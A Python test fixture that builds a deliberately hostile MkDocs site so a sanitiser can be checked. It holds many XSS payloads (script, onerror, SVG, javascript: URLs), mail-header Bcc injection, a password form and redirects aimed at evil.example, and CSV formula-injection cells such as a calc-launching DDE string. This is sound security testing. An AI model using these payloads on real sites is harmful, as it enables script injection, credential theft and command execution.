"""A content folder where every field, body and CSV cell carries an attack.

Every vector carries the marker `lsxss`: the built site may show it as text,
but never inside anything that runs (see htmlscan.py). Text fields are taken
from the front matter schema itself, so a field added later is attacked too
(or must be listed in SKIPPED with the reason).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from lawsite.model import Kind
from lawsite.parse import schema

MARKER = "lsxss"

# One string holding the classic breakouts: raw tags, attribute and <title>
# breakouts, entity-encoded tags, a script URL, mail header injection.
FIELD_VECTOR = (
    f"<script>{MARKER}(1)</script>\"'><img src=x onerror={MARKER}(2)>"
    f"</title><svg onload={MARKER}(3)>&lt;script&gt;{MARKER}(4)&lt;/script&gt;"
    f"{{{{ {MARKER} }}}} javascript&#58;{MARKER}(5) %0ABcc: {MARKER}@evil.example&cc={MARKER}@evil.example?bcc={MARKER}@evil.example"
)
# A newline in a title must not become a mail header either.
TITLE_VECTOR = FIELD_VECTOR + f"\r\nBcc: {MARKER}@evil.example\nX-{MARKER}: 1"

# Raw HTML and Markdown that `check` accepts: the page must come out inert.
MARKDOWN_VECTORS = [
    f"<script>{MARKER}(10)</script>",
    f"<img src=x onerror={MARKER}(11)>",
    f'<iframe src="https://evil.example/{MARKER}"></iframe>',
    f"<svg onload={MARKER}(12)><circle r=1 /></svg>",
    f"<style>body{{background:url(https://evil.example/{MARKER})}}</style>",
    f'<a href="#" onclick="{MARKER}(13)">click</a>',
    f'<div style="background:url(https://evil.example/{MARKER})">styled</div>',
    f'<form action="https://evil.example/{MARKER}"><input type="password" name="p"><button>send</button></form>',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
    '<base href="https://evil.example/">',
    f'<noscript><p title="</noscript><img src=x onerror={MARKER}(15)>">',
    f"<!--><img src=x onerror={MARKER}(16)>-->",
    f"<img src=x onerror=&#108;sxss(17)>",
    f'<div id="__config">{{"base":"https://evil.example/{MARKER}"}}</div>',
    f"&#60;script&#62;{MARKER}(18)&#60;/script&#62;",
    f"<details open ontoggle={MARKER}(19)><summary>s</summary></details>",
    f'<a href="https://evil.example/{MARKER}" target="_blank">external</a> and [md link](https://evil.example/{MARKER}2)',
    f"<object type=\"text/html\">{MARKER}</object><embed type=\"text/html\">",
    f'<svg><a><animate attributeName="href" values="https://evil.example/{MARKER}" /><text>svg</text></a></svg>',
    # Last: its unclosed <style> swallows the rest of the block, as in a browser.
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARKER}(14)>",
]
MARKDOWN_BODY = "\n\n".join(MARKDOWN_VECTORS)

# Vectors `check` must refuse (file and line named) — and that the sanitiser
# alone would also neutralise.
UNSAFE_URL_VECTORS = [
    f"[x](javascript:{MARKER}(20))",
    f"![x](data:text/html;base64,PHNjcmlwdD4=)",
    f'<a href="javascript:{MARKER}(21)">a</a>',
    f"[x](&#106;avascript:{MARKER}(22))",
    f"[x](JaVaScRiPt:{MARKER}(23))",
    f'<a href=" java\tscript:{MARKER}(24)">tab</a>',
    f"[ref]: javascript:{MARKER}(25)",
    f"<javascript:{MARKER}(26)>",
    f'<img src="data:image/svg+xml,<svg onload={MARKER}(27)>">',
    f'<a href="vbscript:{MARKER}(28)">vb</a>',
]

# Text fields a hostile value cannot reach the page through, and why.
SKIPPED = {
    "kind": "chooses the document type; any other value is refused",
    "template": "names a theme template file; an unknown name stops the build",
    "icon": "names a theme icon file; an unknown name stops the build",
    "numbering": "one of three names; any other value is refused",
    "suggestions_file": "a file name; covered by the CSV test",
    "level": "free text, but required: set separately below",
}


def text_fields(kind: Kind) -> list[str]:
    """The top-level free-text fields of a kind, straight from the schema."""
    specs = {**schema.COMMON, **schema.SCHEMA[kind]}
    return sorted(name for name, spec in specs.items() if spec.check is schema.text)


def _front(data: dict[str, object]) -> str:
    # JSON is YAML: every string arrives exactly as written, \r\n included.
    lines = [f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in data.items()]
    return "---\n" + "\n".join(lines) + "\n---\n\n"


def _fields(kind: Kind) -> dict[str, object]:
    data: dict[str, object] = {"kind": kind.value}
    for name in text_fields(kind):
        if name not in SKIPPED:
            data[name] = TITLE_VECTOR if name == "title" else FIELD_VECTOR
    return data


def _articles(n: int, extra: str = "") -> str:
    body = f"## 第一章 {FIELD_VECTOR}\n\n{MARKDOWN_BODY}\n\n"
    for i, label in enumerate(["第一条", "第二条", "第三条"][:n]):
        body += f"{label}（{MARKER}<script>{MARKER}(30)</script>）{FIELD_VECTOR}\n\n（一）{MARKDOWN_VECTORS[i]}\n\n"
    return body + extra


def write_hostile_content(content: Path) -> None:
    """The whole hostile site: a draft open for comment, a law, an
    interpretation, a notice with YAML and CSV suggestions, a contact point,
    an activity of it, a plain page, and an index page."""
    for folder in ("drafts", "laws", "interpretations", "notices", "contact-points", "activities"):
        (content / folder).mkdir(parents=True, exist_ok=True)
    (content / "index.md").write_text(_front({"title": TITLE_VECTOR, "description": FIELD_VECTOR, "summary": FIELD_VECTOR, "status": FIELD_VECTOR}) + MARKDOWN_BODY + "\n", encoding="utf-8")
    (content / "page.md").write_text(f"# {FIELD_VECTOR}\n\n## {FIELD_VECTOR}\n\n{MARKDOWN_BODY}\n", encoding="utf-8")

    point = _fields(Kind.CONTACT_POINT) | {"id": "hostile-point", "level": FIELD_VECTOR, "email": "point@example.org"}
    (content / "contact-points" / "hostile-point.md").write_text(_front(point) + MARKDOWN_BODY + "\n", encoding="utf-8")
    activity = _fields(Kind.ACTIVITY) | {"id": "hostile-activity", "type": "座谈会", "date": "2026-02-15", "point": "hostile-point", "drafts": ["hostile-draft"], "participants": 12, "collected": 3}
    (content / "activities" / "hostile-activity.md").write_text(_front(activity) + MARKDOWN_BODY + "\n", encoding="utf-8")

    draft = _fields(Kind.DRAFT) | {"id": "hostile-draft", "published": "2026-01-01", "contact_points": ["hostile-point"]}
    comments = {name: FIELD_VECTOR for name in ("post", "fax", "phone")}
    comments |= {
        "opens": "2026-01-01", "closes": "2099-12-31", "email": "fgw@example.org",
        "subject": "{title}{label} %0ABcc: " + MARKER + "@evil.example&cc=" + MARKER + "@evil.example?bcc=x",
        "form": "https://forms.example.org/yj?doc={doc}&article={article}&t={title}",
    }
    (content / "drafts" / "hostile-draft.md").write_text(_front(draft | {"comments": comments}) + _articles(3), encoding="utf-8")

    law = _fields(Kind.LAW) | {"id": "hostile-law", "adopted": "2025-01-01", "notes": [FIELD_VECTOR], "events": [{"date": "2025-01-01", "type": "passed", "text": FIELD_VECTOR}]}
    (content / "laws" / "hostile-law.md").write_text(_front(law) + _articles(2), encoding="utf-8")

    interpretation = _fields(Kind.INTERPRETATION) | {"id": "hostile-interpretation", "interprets": "hostile-draft", "published": "2026-02-01"}
    body = f"{MARKDOWN_BODY}\n\n## 第一条\n\n{FIELD_VECTOR}\n\n{MARKDOWN_BODY}\n\n## 第二条\n\n{MARKDOWN_VECTORS[0]}\n"
    (content / "interpretations" / "hostile-interpretation.md").write_text(_front(interpretation) + body, encoding="utf-8")

    suggestions = [
        {"article": "第一条", "from": FIELD_VECTOR, "count": 2, "text": FIELD_VECTOR, "outcome": "adopted", "reason": FIELD_VECTOR},
        {"article": "第二条", "from": "hostile-point", "count": 1, "text": FIELD_VECTOR, "outcome": "not-adopted", "reason": FIELD_VECTOR},
    ]
    notice = _fields(Kind.NOTICE) | {"id": "hostile-notice", "concerns": "hostile-draft", "published": "2026-03-01", "received": 9, "suggestions_file": "hostile.csv", "suggestions": suggestions}
    (content / "notices" / "hostile-notice.md").write_text(_front(notice) + MARKDOWN_BODY + "\n", encoding="utf-8")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["article", "from", "count", "text", "outcome", "reason"])
    writer.writerow(["第一条", FIELD_VECTOR, 3, FIELD_VECTOR, "partly", FIELD_VECTOR])
    writer.writerow(["第三条", f"=HYPERLINK(\"javascript:{MARKER}()\")", 1, f"=cmd|' /C calc'!A0 {FIELD_VECTOR}", "noted", FIELD_VECTOR])
    (content / "notices" / "hostile.csv").write_text(out.getvalue(), encoding="utf-8")


MKDOCS_YML = """\
site_name: 'Hostile <script>lsxss(90)</script> site'
site_url: https://lawsite.example.org/
site_description: '"><script>lsxss(91)</script>'
docs_dir: content
theme:
  name: material
  language: zh
  font: false
  palette:
    - media: "(prefers-color-scheme: light)"
      scheme: default
      toggle: {icon: material/weather-night, name: dark}
    - media: "(prefers-color-scheme: dark)"
      scheme: slate
      toggle: {icon: material/weather-sunny, name: light}
plugins:
  - search
  - lawsite
markdown_extensions:
  - attr_list
  - tables
  - toc:
      permalink: true
"""


def write_hostile_site(root: Path) -> Path:
    """mkdocs.yml and content/ under `root`; returns the config file."""
    write_hostile_content(root / "content")
    config = root / "mkdocs.yml"
    config.write_text(MKDOCS_YML, encoding="utf-8")
    return config
